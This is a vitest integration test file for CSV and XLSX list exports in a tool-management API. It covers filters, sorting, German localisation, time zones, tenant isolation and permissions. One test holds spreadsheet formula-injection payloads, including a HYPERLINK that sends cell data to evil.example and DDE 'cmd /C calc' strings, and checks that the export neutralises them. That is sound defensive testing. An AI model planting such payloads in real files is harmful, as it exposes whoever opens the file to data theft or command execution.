import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { createTestApp, type TestContext } from '../support/test-app.js';
import {
  bearer,
  branchWithSite,
  create,
  organizationWithAdmin,
  workerOf,
} from '../support/fixtures.js';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestApp();
});
afterAll(() => ctx.close());

/**
 * RFC 4180 as the export writes it: separated by the reader's list separator (`,` in English, `;`
 * in the other languages), CRLF, fields with `"`, a separator or breaks quoted.
 */
const parseCsv = (text: string, separator: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
};

const download = async (token: string | undefined, url: string, language = 'en') => {
  const response = await ctx.app.inject({
    method: 'GET',
    url,
    headers: { ...(token ? bearer(token) : {}), 'accept-language': language },
  });
  return response;
};

const csvOf = async (token: string, url: string, language = 'en', separator = ',') => {
  const response = await download(token, url, language);
  expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  expect(response.body.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = parseCsv(response.body.slice(1), separator);
  return { response, header: header!, rows };
};

const sheetOf = async (token: string, url: string, language = 'en') => {
  const response = await download(token, url, language);
  expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const rows: ExcelJS.Row[] = [];
  sheet.eachRow((row) => rows.push(row));
  return { response, sheet, header: rows[0]!, rows: rows.slice(1) };
};

const listNames = async (token: string, url: string) => {
  const response = await ctx.app.inject({ method: 'GET', url, headers: bearer(token) });
  expect(response.statusCode).toBe(200);
  return (response.json() as Array<{ name: string }>).map((tool) => tool.name);
};

/** `count` tools of one organization straight into the table (the API would take minutes). */
const insertTools = async (organizationId: number, branchId: number, count: number, tag: string) =>
  ctx.pool.query(
    `insert into tools (organization_id, branch_id, name, serial_number, status, purchase_date)
     select $1, $2,
            case when i % 3 = 0 then 'Hammer ' || $3 || ' ' || i else 'Bohrer ' || $3 || ' ' || i end,
            'SN-' || $3 || '-' || i,
            (case when i % 4 = 0 then 'maintenance' else 'available' end)::tool_status,
            date '2025-03-01' + i
       from generate_series(1, $4::int) as i`,
    [organizationId, branchId, tag, count],
  );

describe('exporting a list as CSV and XLSX, as the list shows it', () => {
  it('exports exactly the list’s rows for a status filter and a search, in its order, across batches, as CSV and XLSX', async () => {
    const { admin } = await organizationWithAdmin(ctx.app);
    const { branch } = await branchWithSite(ctx.app, admin.token);
    // 1,500 tools: about 750 available "Bohrer", more than one 500-row batch.
    await insertTools(admin.user.organizationId!, branch.id as number, 1_500, 'ex');
    const filter = 'status=available&search=bohrer';
    const expected = await listNames(admin.token, `/api/tools?${filter}`);
    expect(expected.length).toBeGreaterThan(600);

    const csv = await csvOf(admin.token, `/api/tools/export?format=csv&${filter}`);
    expect(csv.rows.map((row) => row[0])).toEqual(expected);
    expect(new Set(csv.rows.map((row) => row[3]))).toEqual(new Set(['Available']));
    expect(csv.response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.response.headers['content-disposition']).toMatch(
      /^attachment; filename="tools-\d{4}-\d{2}-\d{2}\.csv"/,
    );

    const xlsx = await sheetOf(admin.token, `/api/tools/export?format=xlsx&${filter}`);
    expect(xlsx.rows.map((row) => row.getCell(1).value)).toEqual(expected);
    expect(xlsx.response.headers['content-disposition']).toMatch(/filename="tools-.*\.xlsx"/);
    // Dates are real dates in Excel, the same calendar day as in the database.
    const purchased = xlsx.rows[0]!.getCell(8).value;
    expect(purchased).toBeInstanceOf(Date);
    expect(csv.rows[0]![7]).toBe((purchased as Date).toISOString().slice(0, 10));

    // Without filters: the whole list, every row once.
    const all = await csvOf(admin.token, '/api/tools/export');
    expect(all.rows.map((row) => row[0])).toEqual(await listNames(admin.token, '/api/tools'));
    expect(new Set(all.rows.map((row) => row[1])).size).toBe(1_500);
  });

  it('follows the list’s sort and branch filter: tools by serial number descending, sites of one branch by name descending', async () => {
    const { admin } = await organizationWithAdmin(ctx.app);
    const first = await branchWithSite(ctx.app, admin.token);
    const second = await branchWithSite(ctx.app, admin.token);
    for (const name of ['Site 2', 'Site 10', 'Site 1'])
      await create(ctx.app, admin.token, '/api/sites', {
        name,
        address: 'Site Road 3',
        branchId: first.branch.id,
      });
    await insertTools(admin.user.organizationId!, first.branch.id as number, 30, 'a');
    await insertTools(admin.user.organizationId!, second.branch.id as number, 30, 'b');

    const toolQuery = `sort=serialNumber&dir=desc&branchId=${second.branch.id}`;
    const tools = await csvOf(admin.token, `/api/tools/export?${toolQuery}`);
    expect(tools.rows.map((row) => row[0])).toEqual(
      await listNames(admin.token, `/api/tools?${toolQuery}`),
    );
    expect(tools.rows).toHaveLength(30);
    expect(tools.rows.map((row) => row[1])).toEqual(
      Array.from({ length: 30 }, (_, i) => `SN-b-${30 - i}`),
    );

    const siteQuery = `sort=name&dir=desc&branchId=${first.branch.id}`;
    const sites = await csvOf(admin.token, `/api/sites/export?${siteQuery}`);
    const names = sites.rows.map((row) => row[0]);
    expect(names).toEqual(await listNames(admin.token, `/api/sites?${siteQuery}`));
    expect(names.filter((name) => /^Site (1|2|10)$/.test(name!))).toEqual([
      'Site 10',
      'Site 2',
      'Site 1',
    ]);
    expect(names).not.toContain(second.site.name);
  });

  it('words headers and statuses in the reader’s language (German for Accept-Language de), separated by its list separator', async () => {
    const { admin } = await organizationWithAdmin(ctx.app);
    const { branch } = await branchWithSite(ctx.app, admin.token);
    await create(ctx.app, admin.token, '/api/tools', { name: 'Rüttelplatte', branchId: branch.id });
    const csv = await csvOf(admin.token, '/api/tools/export', 'de-DE,de;q=0.9', ';');
    expect(csv.response.body.split('\r\n')[0]).toContain('Name;Seriennummer;');
    expect(csv.header.slice(0, 5)).toEqual([
      'Name',
      'Seriennummer',
      'Beschreibung',
      'Status',
      'Niederlassung',
    ]);
    expect(csv.rows).toHaveLength(1);
    expect(csv.rows[0]![0]).toBe('Rüttelplatte');
    expect(csv.rows[0]![3]).toBe('Verfügbar');

    const xlsx = await sheetOf(admin.token, '/api/tools/export?format=xlsx', 'de');
    expect(xlsx.sheet.name).toBe('Werkzeuge');
    expect(xlsx.header.getCell(2).value).toBe('Seriennummer');
    expect(xlsx.rows[0]!.getCell(4).value).toBe('Verfügbar');

    const vehicles = await csvOf(admin.token, '/api/vehicles/export', 'de', ';');
    expect(vehicles.header).toContain('Kennzeichen');
  });

  it('writes times as the organization’s wall clock, as text in CSV and as real dates in XLSX', async () => {
    const { admin } = await organizationWithAdmin(ctx.app);
    const { branch } = await branchWithSite(ctx.app, admin.token);
    await ctx.pool.query(`update organizations set time_zone = 'America/New_York' where id = $1`, [
      admin.user.organizationId,
    ]);
    await ctx.pool.query(
      `insert into tools (organization_id, branch_id, name, created_at)
       values ($1, $2, 'Clocked drill', '2026-07-01T14:30:05Z')`,
      [admin.user.organizationId, branch.id],
    );
    const csv = await csvOf(admin.token, '/api/tools/export');
    // New York in July is UTC−4.
    expect(csv.rows[0]![12]).toBe('2026-07-01 10:30:05');
    const xlsx = await sheetOf(admin.token, '/api/tools/export?format=xlsx');
    expect((xlsx.rows[0]!.getCell(13).value as Date).toISOString()).toBe(
      '2026-07-01T10:30:05.000Z',
    );
  });

  it('neutralises cells that a spreadsheet would run as a formula, in CSV and XLSX', async () => {
    const { admin } = await organizationWithAdmin(ctx.app);
    const { branch } = await branchWithSite(ctx.app, admin.token);
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|'/C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
    ];
    for (const [index, name] of attacks.entries())
      await ctx.pool.query(
        `insert into tools (organization_id, branch_id, name, notes) values ($1, $2, $3, $4)`,
        [admin.user.organizationId, branch.id, name, `=cmd ${index}`],
      );
    await create(ctx.app, admin.token, '/api/tools', { name: 'Plain drill', branchId: branch.id });
    const neutralised = (text: string) => `'${text}`;

    const csv = await csvOf(admin.token, '/api/tools/export');
    const names = csv.rows.map((row) => row[0]);
    for (const name of attacks) expect(names).toContain(neutralised(name));
    expect(names).toContain('Plain drill');
    for (const row of csv.rows.filter((r) => r[0] !== 'Plain drill'))
      expect(row[11]).toMatch(/^'=cmd \d$/);

    const xlsx = await sheetOf(admin.token, '/api/tools/export?format=xlsx');
    const cells = xlsx.rows.map((row) => row.getCell(1));
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    const values = cells.map((cell) => cell.value);
    // XML reads a bare carriage return as a line feed; the quote in front is what counts.
    for (const name of attacks) expect(values).toContain(neutralised(name.replace('\r', '\n')));
    expect(values).toContain('Plain drill');
  });

  it('never shows another organization’s rows, in any exported list', async () => {
    const a = await organizationWithAdmin(ctx.app);
    const aPlace = await branchWithSite(ctx.app, a.admin.token);
    await create(ctx.app, a.admin.token, '/api/tools', {
      name: 'A-secret-drill',
      branchId: aPlace.branch.id,
    });
    await create(ctx.app, a.admin.token, '/api/storage-units', {
      name: 'A-secret-unit',
      location: 'x',
      branchId: aPlace.branch.id,
    });
    const b = await organizationWithAdmin(ctx.app);
    const bPlace = await branchWithSite(ctx.app, b.admin.token);
    await create(ctx.app, b.admin.token, '/api/tools', {
      name: 'B-drill',
      branchId: bPlace.branch.id,
    });
    const aMarkers = ['A-secret', a.organization.name as string, aPlace.branch.name as string];
    for (const path of [
      'tools',
      'vehicles',
      'reports',
      'storage-units',
      'parking-locations',
      'sites',
      'branches',
      'users',
      'users/workers',
    ]) {
      for (const format of ['csv', 'xlsx']) {
        // The superadmin's way to name an organization is ignored for an org admin.
        const url = `/api/${path}/export?format=${format}&organizationId=${a.organization.id as number}`;
        const response = await download(b.admin.token, url);
        expect(response.statusCode, `${url}: ${response.body.slice(0, 200)}`).toBe(200);
        const text =
          format === 'csv'
            ? response.body
            : (await sheetOf(b.admin.token, url)).rows
                .map((row) => JSON.stringify(row.values))
                .join('\n');
        for (const marker of aMarkers) expect(text, `${url} shows ${marker}`).not.toContain(marker);
      }
    }
    const bTools = await csvOf(b.admin.token, '/api/tools/export');
    expect(bTools.rows.map((row) => row[0])).toEqual(['B-drill']);
  });

  it('asks for the list’s own permission: 401 without a session, 403 for a role the list refuses', async () => {
    const { admin } = await organizationWithAdmin(ctx.app);
    const worker = await workerOf(ctx.app, admin.token);
    expect((await download(undefined, '/api/tools/export')).statusCode).toBe(401);
    for (const path of ['tools', 'vehicles', 'storage-units', 'branches', 'users'])
      expect((await download(worker.token, `/api/${path}/export`)).statusCode, path).toBe(403);
    // Workers read reports and sites, so they may export them.
    expect((await download(worker.token, '/api/reports/export')).statusCode).toBe(200);
    expect((await download(admin.token, '/api/tools/export?format=pdf')).statusCode).toBe(400);
  });

  it('says in X-Export-Rows how many data rows the file holds, for the whole list, filters and a search, in CSV and XLSX', async () => {
    const { admin } = await organizationWithAdmin(ctx.app);
    const { branch } = await branchWithSite(ctx.app, admin.token);
    // 1,200 tools: three batches; the header goes out before the second is read and counts all.
    await insertTools(admin.user.organizationId!, branch.id as number, 1_200, 'rows');
    const rowsOf = (response: { headers: Record<string, unknown> }) => {
      const header = response.headers['x-export-rows'];
      return header === undefined ? undefined : Number(header);
    };

    for (const query of [
      '',
      'status=available',
      'status=maintenance&search=bohrer',
      'search=no-such-tool',
    ]) {
      const csv = await csvOf(admin.token, `/api/tools/export?format=csv&${query}`);
      expect(rowsOf(csv.response), query).toBe(csv.rows.length);
      const xlsx = await sheetOf(admin.token, `/api/tools/export?format=xlsx&${query}`);
      expect(rowsOf(xlsx.response), query).toBe(xlsx.rows.length);
      expect(xlsx.rows.length, query).toBe(csv.rows.length);
    }
    expect(rowsOf(await download(admin.token, '/api/tools/export'))).toBe(1_200);
    expect(rowsOf(await download(admin.token, '/api/tools/export?status=available'))).toBe(900);

    // A search that matches every tool: where the list only says "at least" (its count capped),
    // the export says nothing rather than too few; otherwise the exact rows.
    const page = await ctx.app.inject({
      method: 'GET',
      url: '/api/tools?limit=1&search=rows',
      headers: bearer(admin.token),
    });
    const { totalCapped } = page.json<{ totalCapped?: true }>();
    for (const format of ['csv', 'xlsx']) {
      const response = await download(
        admin.token,
        `/api/tools/export?format=${format}&search=rows`,
      );
      expect(response.statusCode).toBe(200);
      expect(rowsOf(response), format).toBe(totalCapped ? undefined : 1_200);
    }
  });
});
